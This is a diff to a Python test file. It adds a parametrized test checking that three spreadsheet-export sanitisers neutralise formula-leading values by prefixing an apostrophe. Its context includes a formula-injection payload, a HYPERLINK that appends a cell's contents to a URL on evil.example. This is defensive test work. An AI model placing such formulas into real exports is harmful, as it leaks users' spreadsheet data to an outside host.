@@ -10,6 +10,7 @@ from openpyxl import load_workbook
 
 from cases.exports import csv_response, safe_cell, write_csv, write_xlsx, xlsx_response
 from cases.models import AuditEvent
+from monitoring import findings, rosters
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点击")',
@@ -42,6 +43,40 @@ def test_safe_cell_prefixes_an_apostrophe(text):
 @pytest.mark.parametrize("value", [*HARMLESS, None, 42, -5, 3.5, Decimal("-1.5"), date(2026, 1, 1)])
 def test_safe_cell_leaves_other_values(value):
     assert safe_cell(value) == value
+
+
+@pytest.mark.parametrize(
+    "neutralise",
+    [safe_cell, findings.neutralise, rosters.safe_text],
+    ids=[
+        "cases.exports.safe_cell",
+        "monitoring.findings.neutralise",
+        "monitoring.rosters.safe_text",
+    ],
+)
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("+86", "'+86"),
+        ("-1", "'-1"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("王伟", "王伟"),
+        ("张三", "张三"),
+        ("", ""),
+        (5, 5),
+        (12, 12),
+        (None, None),
+    ],
+)
+def test_every_export_path_neutralises_formulas(neutralise, value, expected):
+    """The person export (admin), the finance rosters and the findings export all neutralise."""
+    assert neutralise(value) == expected
 
 
 def test_xlsx_cells_are_text_never_formulas(rows):
